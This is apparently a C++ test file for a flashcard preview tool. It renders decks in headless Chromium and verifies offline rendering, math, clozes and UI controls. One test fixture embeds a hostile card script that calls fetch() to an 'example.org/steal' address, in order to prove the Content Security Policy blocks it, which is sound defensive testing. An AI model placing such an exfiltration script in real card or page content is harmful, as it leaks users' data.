// The preview in a real browser: headless Chromium (Debian's chromium) opens the page of
// decks/ and of the Anki fixtures, and the test reads the rendered DOM (--dump-dom): every card
// is there, MathJax typeset the math, cloze fronts show [...], code is highlighted, and no
// request left the machine (resource timing in the page, Chromium's net log, no CSP refusal).
// Skipped, visibly, when chromium is not installed.
#include <signal.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <cctype>
#include <chrono>
#include <cstdlib>
#include <filesystem>
#include <map>
#include <optional>
#include <regex>
#include <thread>

#include <gtest/gtest.h>
#include <nlohmann/json.hpp>

#include "deckport/deck_files.hpp"
#include "deckport/format.hpp"
#include "deckport/render.hpp"
#include "test_support.hpp"

namespace deckport {
namespace {

namespace fs = std::filesystem;

std::optional<fs::path> find_chromium() {
    if (const char* given = std::getenv("DECKPORT_CHROMIUM"); given && *given)
        return fs::path(given);
    const char* path = std::getenv("PATH");
    std::string dirs = path ? path : "/usr/bin:/bin";
    for (std::size_t start = 0; start <= dirs.size();) {
        std::size_t end = dirs.find(':', start);
        if (end == std::string::npos) end = dirs.size();
        for (const char* name : {"chromium", "chromium-browser"}) {
            fs::path candidate = fs::path(dirs.substr(start, end - start)) / name;
            if (::access(candidate.c_str(), X_OK) == 0) return candidate;
        }
        start = end + 1;
    }
    return std::nullopt;
}

#define REQUIRE_CHROMIUM(var)                                                       \
    std::optional<fs::path> var = find_chromium();                                  \
    if (!var)                                                                       \
    GTEST_SKIP() << "chromium is not installed (Debian package chromium): browser " \
                    "tests skipped"

struct BrowserRun {
    std::string dom;
    std::string log;
    nlohmann::json netlog;
};

// Runs `chromium --headless --dump-dom` on a page, as the spec's command line does: no network
// (every host name resolves to nothing), a fresh profile, virtual time for MathJax's timers.
BrowserRun open_in_chromium(const fs::path& chromium, const fs::path& page,
                            const test::TempDir& dir) {
    fs::path profile = dir / "profile", dom = dir / "dom.html", log = dir / "chromium.log",
             net = dir / "net.json";
    std::vector<std::string> args{chromium.string(),
                                  "--headless",
                                  "--disable-gpu",
                                  "--disable-quic",
                                  "--no-first-run",
                                  "--disable-background-networking",
                                  "--disable-component-update",
                                  "--disable-sync",
                                  "--disable-features=NetworkTimeServiceQuerying",
                                  "--host-resolver-rules=MAP * ~NOTFOUND",
                                  "--user-data-dir=" + profile.string(),
                                  "--virtual-time-budget=30000",
                                  "--enable-logging=stderr",
                                  "--v=0",
                                  "--log-net-log=" + net.string(),
                                  "--dump-dom",
                                  "file://" + fs::absolute(page).string()};
    if (::geteuid() == 0) args.insert(args.begin() + 2, "--no-sandbox");  // required as root
    pid_t pid = ::fork();
    if (pid == 0) {
        std::freopen(dom.c_str(), "wb", stdout);
        std::freopen(log.c_str(), "wb", stderr);
        std::vector<char*> argv;
        for (auto& a : args) argv.push_back(a.data());
        argv.push_back(nullptr);
        ::setpgid(0, 0);
        ::execv(argv[0], argv.data());
        ::_exit(127);
    }
    int status = 0;
    auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(120);
    while (::waitpid(pid, &status, WNOHANG) == 0) {
        if (std::chrono::steady_clock::now() > deadline) {
            ::kill(-pid, SIGKILL);
            ::waitpid(pid, &status, 0);
            ADD_FAILURE() << "chromium did not finish in 120 s";
            break;
        }
        std::this_thread::sleep_for(std::chrono::milliseconds(50));
    }
    BrowserRun run;
    run.dom = test::read_text(dom);
    run.log = test::read_text(log);
    if (fs::exists(net)) {
        std::string text = test::read_text(net);
        // Chromium may stop before closing the JSON of a log it is still writing.
        while (!text.empty() && std::isspace(static_cast<unsigned char>(text.back())))
            text.pop_back();
        if (!text.empty() && text.back() != '}') text += "]}";
        run.netlog = nlohmann::json::parse(text, nullptr, false);
    }
    return run;
}

std::map<std::string, std::string> body_attributes(const std::string& dom) {
    std::map<std::string, std::string> attributes;
    std::size_t start = dom.find("<body data-");  // comments in the page's scripts say <body>
    std::size_t end = dom.find('>', start);
    if (start == std::string::npos || end == std::string::npos) return attributes;
    std::string tag = dom.substr(start, end - start);
    std::regex attribute(R"re(([a-z-]+)="([^"]*)")re");
    for (auto it = std::sregex_iterator(tag.begin(), tag.end(), attribute);
         it != std::sregex_iterator(); ++it)
        attributes[(*it)[1]] = (*it)[2];
    return attributes;
}

// URL requests that the page started (Chromium's own background requests have the initiator
// "not an origin"; everything a file: page starts has "null").
std::vector<std::string> page_requests(const nlohmann::json& netlog) {
    std::vector<std::string> found;
    if (!netlog.is_object() || !netlog.contains("constants")) {
        found.push_back("(no net log)");
        return found;
    }
    int start_job = -1;
    for (const auto& [name, id] : netlog["constants"]["logEventTypes"].items()) {
        if (name == "URL_REQUEST_START_JOB") start_job = id.get<int>();
    }
    for (const auto& event : netlog.value("events", nlohmann::json::array())) {
        if (event.value("type", -1) != start_job || !event.contains("params")) continue;
        const auto& params = event["params"];
        if (!params.contains("url")) continue;
        if (params.value("initiator", std::string()) != "not an origin")
            found.push_back(params["url"].get<std::string>());
    }
    return found;
}

// The cards the decks have: a package's own cards, else the ones Anki would make.
std::size_t expected_cards(const std::vector<std::string>& files) {
    std::size_t cards = 0;
    for (const std::string& file : files) {
        Diagnostics diagnostics;
        Input input = read_input(file);
        ReadContext context{diagnostics, {}, Limits{}, 0};
        Collection c =
            read_collection(builtin_formats().detect_input(input, std::nullopt), input, context);
        for (const Note& note : c.notes) {
            const NoteType* nt = c.find_note_type(note.note_type_id);
            if (nt)
                cards += note.cards.empty() ? anki_card_ords(*nt, note).size() : note.cards.size();
        }
    }
    return cards;
}

// The articles of the DOM: each card's front and back sections.
struct DomCard {
    std::string notetype, front, back;
};
std::vector<DomCard> dom_cards(const std::string& dom) {
    std::vector<DomCard> cards;
    for (std::size_t at = dom.find("<article class=\"dp-card"); at != std::string::npos;
         at = dom.find("<article class=\"dp-card", at + 1)) {
        std::size_t end = dom.find("</article>", at);
        std::string article = dom.substr(at, end - at);
        DomCard card;
        std::size_t nt = article.find("data-notetype=\"");
        card.notetype = article.substr(nt + 15, article.find('"', nt + 15) - nt - 15);
        std::size_t q = article.find("dp-side dp-q"), a = article.find("dp-side dp-a");
        card.front = article.substr(q, a - q);
        card.back = article.substr(a);
        cards.push_back(card);
    }
    return cards;
}

// Drives the page as a person would (keys, search, deck and tag filters) from a script added
// at its end, and writes what happened into <body data-ui="...">.
constexpr const char* kUiScript = R"js(<script>
(function () {
  var d = document, r = [];
  function key(k) { d.dispatchEvent(new KeyboardEvent("keydown", {key: k, bubbles: true})); }
  function visible() {
    return Array.prototype.filter.call(d.querySelectorAll("article.dp-card"), function (c) { return !c.hidden; });
  }
  var cards = visible(), first = cards[0], second = cards[1];
  key("j"); r.push("j=" + first.classList.contains("dp-current"));
  key("j"); r.push("jj=" + second.classList.contains("dp-current"));
  key("k"); r.push("k=" + first.classList.contains("dp-current"));
  key("f"); r.push("f=" + d.documentElement.classList.contains("dp-mode-front"));
  key(" "); r.push("space=" + first.classList.contains("dp-revealed"));
  key("b"); r.push("b=" + !d.documentElement.classList.contains("dp-mode-front"));
  key("t"); r.push("t=" + d.documentElement.getAttribute("data-theme") + "," +
                   first.querySelector(".dp-side > .card").classList.contains("nightMode"));
  key("t"); r.push("tt=" + d.documentElement.getAttribute("data-theme"));
  var search = d.getElementById("dp-search");
  search.value = "RwLock"; search.dispatchEvent(new Event("input"));
  r.push("search=" + visible().length);
  search.value = ""; search.dispatchEvent(new Event("input"));
  var deck = d.querySelector('#dp-decks button[data-deck="Rust Concurrency::Channels"]');
  deck.click(); r.push("deck=" + visible().length); deck.click();
  var parent = d.querySelector('#dp-decks button[data-deck="Rust Concurrency"]');
  parent.click(); r.push("parent=" + visible().length); parent.click();
  var tag = d.querySelector('#dp-tags button[data-tag="mpsc"]');
  tag.click(); r.push("tag=" + visible().length); tag.click();
  r.push("all=" + visible().length);
  d.body.setAttribute("data-ui", r.join(" "));
})();
</script>
)js";

void make_preview(const std::vector<std::string>& inputs, const fs::path& page) {
    std::vector<std::string> args{"preview"};
    args.insert(args.end(), inputs.begin(), inputs.end());
    args.insert(args.end(), {"-o", page.string(), "--force"});
    unsetenv("DECKPORT_JAVASCRIPT_DIR");
    test::CliResult result = test::run_cli(args);
    ASSERT_EQ(result.exit_code, 0) << result.err;
}

TEST(Browser, TheDecksFolderRendersWithMathCodeAndClozesOffline) {
    REQUIRE_CHROMIUM(chromium);
    if (!fs::exists("/usr/share/javascript/mathjax/MathJax.js"))
        GTEST_SKIP() << "libjs-mathjax is not installed";
    test::TempDir dir;
    fs::path page = dir / "decks.html";
    make_preview({"decks"}, page);
    std::string html = test::read_text(page);
    html.insert(html.rfind("</body>"), kUiScript);
    test::write_text(page, html);
    auto start = std::chrono::steady_clock::now();
    BrowserRun run = open_in_chromium(*chromium, page, dir);
    double seconds =
        std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
    RecordProperty("chromium_seconds", std::to_string(seconds));

    auto body = body_attributes(run.dom);
    std::size_t cards = expected_cards(expand_deck_inputs({"decks"}, builtin_formats()));
    EXPECT_EQ(test::count_occurrences(run.dom, "<article class=\"dp-card"), cards);
    EXPECT_EQ(body["data-cards"], std::to_string(cards));
    EXPECT_EQ(body["data-ready"], "1") << run.log;
    // MathJax typeset every formula, with every file it needed embedded.
    EXPECT_EQ(body["data-mathjax"], "done");
    EXPECT_EQ(body["data-mathjax-missing"], "");
    EXPECT_EQ(body["data-mj-errors"], "0");
    EXPECT_GT(std::stoi(body["data-mj-count"]), 0);
    EXPECT_EQ(test::count_occurrences(run.dom, "<script type=\"math/tex"),
              std::stoul(body["data-mj-count"]));
    // Code blocks are highlighted.
    EXPECT_GT(std::stoi(body["data-hljs"]), 0);
    EXPECT_NE(run.dom.find("<span class=\"hljs-keyword\">"), std::string::npos);
    // Cloze fronts hide the active deletion, backs reveal it.
    std::size_t clozes = 0;
    for (const DomCard& card : dom_cards(run.dom)) {
        if (card.notetype != "Cloze") continue;
        ++clozes;
        EXPECT_TRUE(std::regex_search(
            card.front,
            std::regex(
                R"(<span class="cloze" data-cloze="[^"]*" data-ordinal="\d+">\[[^\]]*\]</span>)")))
            << card.front.substr(0, 400);
        EXPECT_TRUE(
            std::regex_search(card.back, std::regex(R"(<span class="cloze" data-ordinal="\d+">)")))
            << card.back.substr(0, 400);
        EXPECT_EQ(card.back.find("[...]"), std::string::npos);
    }
    EXPECT_GT(clozes, 0u);
    // Nothing left the machine.
    EXPECT_EQ(body["data-resources"], "");
    EXPECT_EQ(body["data-nondata-fonts"], "");
    EXPECT_EQ(page_requests(run.netlog), std::vector<std::string>{});
    EXPECT_EQ(test::count_occurrences(run.log, "Content Security Policy"), 0u) << run.log;
    // The page's controls: keys move and turn cards, filters narrow the list.
    std::size_t rwlock = 0;
    for (const DomCard& card : dom_cards(run.dom)) {
        std::string text = card.front + card.back;
        for (char& c : text) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
        rwlock += text.find("rwlock") != std::string::npos;
    }
    EXPECT_EQ(body["data-ui"],
              "j=true jj=true k=true f=true space=true b=true t=dark,true tt=light search=" +
                  std::to_string(rwlock) + " deck=2 parent=16 tag=2 all=" + std::to_string(cards));
    EXPECT_GT(rwlock, 0u);
}

TEST(Browser, AnkiPackagesRenderWithTheirOwnTemplates) {
    REQUIRE_CHROMIUM(chromium);
    DECKPORT_REQUIRE_FIXTURES();
    test::TempDir dir;
    fs::path anki = test::fixtures_dir() / "anki";
    std::vector<std::string> packages{(anki / "ankidroid" / "templates.apkg").string(),
                                      (anki / "ankitects-anki" / "media.apkg").string(),
                                      (anki / "anki-apkg-export" / "output.apkg").string(),
                                      (anki / "srs-converter" / "mixed-legacy-2.apkg").string()};
    fs::path page = dir / "anki.html";
    make_preview(packages, page);
    BrowserRun run = open_in_chromium(*chromium, page, dir);
    auto body = body_attributes(run.dom);
    std::size_t cards = expected_cards(packages);
    EXPECT_EQ(test::count_occurrences(run.dom, "<article class=\"dp-card"), cards);
    EXPECT_EQ(body["data-ready"], "1") << run.log;
    // The packages' own templates: AnkiDroid's test note types, errors shown as Anki shows them.
    EXPECT_NE(run.dom.find("Found '{{/z}}', but expected '{{/Picture}}'"), std::string::npos);
    EXPECT_NE(
        run.dom.find("Found '{{=&lt;% %&gt;=}}', but there is no field called '=&lt;% %&gt;='"),
        std::string::npos);
    // Cloze cards from the packages: the active deletion is hidden on the front.
    std::size_t clozes = 0;
    for (const DomCard& card : dom_cards(run.dom)) {
        if (card.front.find("class=\"cloze\" data-cloze=") != std::string::npos) ++clozes;
    }
    EXPECT_GT(clozes, 5u);
    // Cards name media that the packages lack and web addresses: the CSP refuses them, and the
    // net log shows that the page started no request.
    EXPECT_EQ(page_requests(run.netlog), std::vector<std::string>{});
    EXPECT_EQ(body["data-nondata-fonts"], "");
    for (const std::string& name : {std::string("http://"), std::string("https://")})
        EXPECT_EQ(body["data-resources"].find(name), std::string::npos) << body["data-resources"];
}

// The net-log check is not vacuous: a page without the CSP that loads an image from the web is
// caught. And with the CSP, card content that tries (a web image, a fetch() from a card script
// allowed to run) starts no request: Chromium refuses it and says so.
TEST(Browser, TheNetLogSeesRequestsAndTheCspRefusesThem) {
    REQUIRE_CHROMIUM(chromium);
    test::TempDir dir;
    fs::path bare = dir / "bare.html";
    test::write_text(bare, "<!doctype html><p>x<img src=\"https://example.com/x.png\">");
    BrowserRun without_csp = open_in_chromium(*chromium, bare, dir);
    std::vector<std::string> requests = page_requests(without_csp.netlog);
    EXPECT_NE(std::find(requests.begin(), requests.end(), "https://example.com/x.png"),
              requests.end());

    test::TempDir dir2;
    fs::path deck = dir2 / "hostile.md";
    test::write_text(deck,
                     "---\nFlashcard Deck: Hostile\n---\n\nA web image <img "
                     "src=\"https://example.com/x.png\">\n\n"
                     "---\n<script>fetch(\"https://example.org/steal\")</script>done\n");
    fs::path page = dir2 / "hostile.html";
    test::CliResult made =
        test::run_cli({"preview", deck.string(), "--run-card-scripts", "-o", page.string()});
    ASSERT_EQ(made.exit_code, 0) << made.err;
    BrowserRun run = open_in_chromium(*chromium, page, dir2);
    EXPECT_EQ(body_attributes(run.dom)["data-ready"], "1");
    EXPECT_EQ(page_requests(run.netlog), std::vector<std::string>{});
    EXPECT_GE(test::count_occurrences(run.log, "Content Security Policy"), 1u) << run.log;
    EXPECT_NE(run.dom.find("data-deckport-missing=\"https://example.com/x.png\""),
              std::string::npos);
}

}  // namespace
}  // namespace deckport
